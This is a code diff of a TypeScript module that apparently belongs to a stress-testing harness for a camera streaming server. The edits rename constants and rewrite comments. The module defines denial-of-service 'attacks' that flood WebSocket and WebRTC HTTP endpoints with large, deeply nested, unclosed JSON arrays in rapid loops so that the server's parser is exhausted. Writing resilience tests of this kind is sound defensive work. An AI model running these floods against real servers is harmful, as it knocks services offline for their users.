@@ -3,15 +3,15 @@ import { count, loops, pause, type Attack, type Field } from './attack.js'
 import { openPoster } from './posting.js'
 
 const KILOBYTE = 1024
-/** For who sends as fast as answers come: more than any server takes. */
-const LEAST_MS = 10
+/** Minimum time between messages that are sent as fast as they are answered. */
+const MIN_INTERVAL_MS = 10
 const IN_FLIGHT = 2
 const BODY_CONNECTIONS = 4
 
-/** Arrays within arrays without an end. With their ends it takes less: half as many, and no error to write. */
+/** Nested arrays without closing brackets. Closed ones cost less: half as many fit, and there is no error to report. */
 export const nestedJson = (bytes: number): string => `{"offer":${'['.repeat(bytes - 9)}`
 
-/** One WebSocket at a time; a closed one is followed by another. `talk` sends, and returns when it is closed. */
+/** Keeps one WebSocket open. `talk` sends, and returns when the WebSocket is closed. */
 async function talkOn(
   field: Field,
   talk: (socket: RawWebSocket, answered: () => Promise<void>) => Promise<void>,
@@ -21,7 +21,7 @@ async function talkOn(
     const socket = await openRawWebSocket(field.webPort, '/camera1/ws', field.from)
     count(field, `upgrade ${socket.status}`)
     const stop = (): void => void socket.socket.destroy()
-    field.over.addEventListener('abort', stop, { once: true })
+    field.signal.addEventListener('abort', stop, { once: true })
     let wake = (): void => {}
     let answers = 0
     socket.onMessage = (text) => {
@@ -36,9 +36,9 @@ async function talkOn(
       answers--
     }
     if (socket.status === 101) await talk(socket, answered)
-    if (!field.over.aborted && socket.isClosed()) count(field, 'closed')
+    if (!field.signal.aborted && socket.isClosed()) count(field, 'closed')
     stop()
-    field.over.removeEventListener('abort', stop)
+    field.signal.removeEventListener('abort', stop)
     field.tally.bytesSent += socket.socket.bytesWritten
   })
 }
@@ -49,7 +49,7 @@ export const nested: Attack = {
   run: async (field) => {
     const message = clientFrame(nestedJson(512 * KILOBYTE))
     await talkOn(field, async (socket) => {
-      while (!socket.isClosed() && !field.over.aborted) {
+      while (!socket.isClosed() && !field.signal.aborted) {
         socket.send(message)
         await pause(field, 1000 / 9)
       }
@@ -64,9 +64,9 @@ export const nestedShort: Attack = {
     const message = clientFrame(nestedJson(128 * KILOBYTE))
     await talkOn(field, async (socket, answered) => {
       for (let i = 0; i < IN_FLIGHT - 1; i++) socket.send(message)
-      while (!socket.isClosed() && !field.over.aborted) {
+      while (!socket.isClosed() && !field.signal.aborted) {
         socket.send(message)
-        await Promise.all([answered(), pause(field, LEAST_MS)])
+        await Promise.all([answered(), pause(field, MIN_INTERVAL_MS)])
       }
     })
   },
@@ -78,7 +78,7 @@ export const nestedBodies: Attack = {
   run: async (field) => {
     const posters = Array.from({ length: BODY_CONNECTIONS }, () => openPoster(field))
     const body = nestedJson(128 * KILOBYTE)
-    await loops(field, BODY_CONNECTIONS, LEAST_MS, async (index) => {
+    await loops(field, BODY_CONNECTIONS, MIN_INTERVAL_MS, async (index) => {
       const path = index % 2 === 0 ? '/webrtc' : '/api/webrtc?src=camera1'
       await posters[index]!.post(path, 'application/json', body)
     })
